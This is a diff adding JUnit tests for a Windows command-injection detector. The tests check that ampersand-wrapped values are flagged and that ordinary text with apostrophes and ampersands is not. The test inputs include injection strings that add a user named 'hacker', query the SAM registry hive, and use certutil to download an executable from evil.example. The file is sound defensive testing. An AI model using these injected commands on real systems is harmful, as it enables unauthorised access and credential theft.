@@ -129,6 +129,32 @@ class WindowsCommandDetectorTest {
     }
 
     @ParameterizedTest
+    @ValueSource(strings = {"&ver&", "\"&ver&\"", "& vol &", "&&ver&&"})
+    void detectsBareCommandBetweenAmpersandsThatOpenTheValue(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"&start calc.exe", "&start calc.exe&", "\"&start calc.exe&\""})
+    void detectsProgramStartedAfterAmpersandGluedToTheValueStart(String value) {
+        assertThat(standard(detector, value)).contains("WINCMD-COMMAND");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"'&net user hacker P@ss /add&'", "'&reg query HKLM\\SAM&'",
+        "'&certutil -urlcache -split -f http://evil.example/x.exe&'", "'&start calc.exe&'"})
+    void detectsCommandAfterSingleQuoteThatCmdReadsAsPlainText(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Rock 'n' roll & more", "O'Brien & Sons type", "It's Tom & Jerry's ver 2",
+        "Let's start & finish", "'R&D' budget 2024", "| dir | size |", "a&ver&b", "x&start=calc.exe&"})
+    void ignoresApostrophesAmpersandsAndTableRowsInText(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
     @ValueSource(strings = {"| Help", "& More", "Tom & ver", "ver", "& ver 2"})
     void ignoresTitleFragmentsAndWordsAfterText(String value) {
         assertThat(standard(detector, value)).doesNotContain("WINCMD-COMMAND");
